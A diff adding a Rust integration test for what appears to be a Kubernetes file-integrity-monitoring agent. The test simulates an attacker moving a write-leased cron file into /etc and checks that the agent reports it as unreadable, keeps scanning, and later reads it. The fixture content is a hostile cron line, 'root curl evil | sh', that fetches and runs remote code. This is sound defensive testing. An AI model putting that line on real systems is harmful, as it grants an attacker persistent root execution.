@@ -1558,3 +1558,101 @@ async fn a_storm_in_one_entry_hides_no_change_of_another() {
     );
     fleet.cleanup().await;
 }
+
+// Issue 21, attack 5: a read error never means unchanged.
+
+/// A new file moved into `/etc` while the attacker's process holds a write
+/// lease on it (root cannot read it either): a FileChange naming it, Added,
+/// its metadata read, its content marked unreadable with the reason; the
+/// agent's scan is not held up by it (another change is reported meanwhile).
+/// The lease released, the agent reads the content on its own and reports it.
+#[tokio::test]
+async fn a_file_held_under_a_write_lease_is_reported_unreadable_then_read() {
+    use kube_fim_testkit::lease::Lease;
+    let client = client().await;
+    let suite = unique_name("adv");
+    let mut fleet = Fleet::new(client.clone(), &suite, 1).await;
+    let policy = format!("{suite}-etc");
+    fleet
+        .create_policy(&fleet.policy(&policy, vec![entry("etc", "/etc", true)]))
+        .await;
+    fleet.nodes[0].start_agent();
+    let a = fleet.nodes[0].name.clone();
+    fleet.wait_ready(&a, &policy, READY).await;
+
+    // Staged on the same file system where nothing looks, leased, moved in.
+    let staged = fleet.nodes[0].host("/staging/cron");
+    std::fs::create_dir_all(staged.parent().unwrap()).unwrap();
+    let content = "* * * * * root curl evil | sh\n";
+    std::fs::write(&staged, content).unwrap();
+    let lease = Lease::take(&staged);
+    std::fs::rename(&staged, fleet.nodes[0].host("/etc/cron")).unwrap();
+    let moved = std::time::Instant::now();
+
+    let added = wait_change(&fleet, &a, "Added /etc/cron").await;
+    println!("unreadable Added seen {:?} after the move", moved.elapsed());
+    let after = added.spec.after.clone().unwrap();
+    assert_eq!(after.size, Some(content.len() as u64), "{after:?}");
+    assert!(after.mode.is_some() && after.inode.is_some(), "{after:?}");
+    assert_eq!(after.hash, None, "no digest of content not read: {after:?}");
+    let why = after.unreadable.clone().unwrap_or_default();
+    assert!(why.contains("EWOULDBLOCK"), "{after:?}");
+    // `kubectl get fc` shows why.
+    let run = kubectl(["get", "fc", &added.name_any()]);
+    assert!(run.success, "{}", run.stderr);
+    assert!(
+        run.stdout.contains("UNREADABLE") && run.stdout.contains("EWOULDBLOCK"),
+        "{}",
+        run.stdout
+    );
+
+    // Its Event says so too.
+    eventually(
+        "an Event saying /etc/cron could not be read",
+        SEEN,
+        || async {
+            let events = Api::<Event>::all(client.clone())
+                .list(&ListParams::default())
+                .await
+                .map_err(|e| e.to_string())?;
+            events
+                .items
+                .iter()
+                .find(|e| {
+                    let note = e.note.as_deref().unwrap_or("");
+                    note.contains(&a)
+                        && note.contains("/etc/cron added")
+                        && note.contains("EWOULDBLOCK")
+                })
+                .map(|_| ())
+                .ok_or_else(|| "not yet".to_string())
+        },
+    )
+    .await;
+
+    // The lease held, the agent goes on: another change is reported.
+    std::fs::write(fleet.nodes[0].host("/etc/hosts"), "10.0.0.1 evil\n").unwrap();
+    wait_change(&fleet, &a, "Modified /etc/hosts").await;
+
+    drop(lease);
+    let released = std::time::Instant::now();
+    let hash = blake3::hash(content.as_bytes()).to_hex().to_string();
+    let read = eventually("the content, once readable, is reported", SEEN, || async {
+        let changes = fleet.changes(&a).await;
+        changes
+            .into_iter()
+            .find(|c| {
+                describe(c) == "Added /etc/cron"
+                    && c.spec.after.as_ref().and_then(|x| x.hash.as_deref()) == Some(&hash)
+            })
+            .ok_or_else(|| "not yet".to_string())
+    })
+    .await;
+    println!(
+        "content reported {:?} after the lease was released",
+        released.elapsed()
+    );
+    assert_ne!(read.name_any(), added.name_any(), "a FileChange of its own");
+    assert_eq!(read.spec.after.unwrap().unreadable, None);
+    fleet.cleanup().await;
+}
